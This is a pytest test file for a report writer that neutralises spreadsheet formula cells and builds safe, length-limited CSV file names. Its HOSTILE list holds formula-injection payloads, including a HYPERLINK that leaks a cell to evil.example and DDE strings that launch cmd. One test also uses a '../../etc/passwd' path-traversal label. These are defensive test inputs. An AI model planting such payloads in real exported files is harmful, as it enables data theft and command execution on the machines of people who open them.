"""The gears' shared report writer: safe to open in a spreadsheet, names that always fit."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from gears.common.report import MAX_NAME, neutralise, report_name, write_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_shown_as_text(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["T1 MPRAGE", "1.2.840.10008", "", "a=b", "x-1"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert neutralise(value) == value
    assert neutralise(12) == 12 and neutralise(-3) == -3


def test_written_report_has_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    rows = [{"A": value, "B": 7} for value in HOSTILE]
    rows.append({"A": "fine;=1+1,\n=2+2", "B": 0})  # separators and line breaks inside
    path = write_report(tmp_path, "r.csv", ["A", "B"], rows)
    with path.open(newline="") as handle:
        got = list(csv.DictReader(handle))
    assert [row["A"] for row in got] == ["'" + value for value in HOSTILE] + ["fine;=1+1,\n=2+2"]
    assert [row["B"] for row in got] == ["7"] * len(HOSTILE) + ["0"]
    text = path.read_text()
    # every cell is quoted: a spreadsheet splitting on ";" or "," keeps each value whole
    assert text.splitlines()[0] == "A,B"
    assert '"fine;=1+1,\n=2+2","0"' in text
    assert '"\'=cmd|\' /C calc\'!A0","7"' in text


def test_long_and_odd_labels_make_a_short_safe_name() -> None:
    now = datetime(2026, 1, 2, 3, 4, 5)
    name = report_name("dicom-send", ["S" * 300, "../../etc/passwd", "acq"], now)
    assert len(name.encode()) <= MAX_NAME and "/" not in name
    assert name.startswith("dicom-send_report-") and name.endswith("_2026-01-02_03-04-05.csv")
    other = report_name("dicom-send", ["S" * 299 + "T", "../../etc/passwd", "acq"], now)
    assert other != name  # shortened labels keep a hash of the full label
    assert report_name("dicom-send", ["My Study", None, "T1"], now) == (
        "dicom-send_report-My Study_T1_2026-01-02_03-04-05.csv"
    )
    many = report_name("mapping-audit", ["x" * 60] * 10, now)
    assert len(many.encode()) <= MAX_NAME


def test_non_ascii_labels_fit_in_bytes() -> None:
    name = report_name("dicom-send", ["山田太郎" * 100])
    assert len(name.encode()) <= MAX_NAME
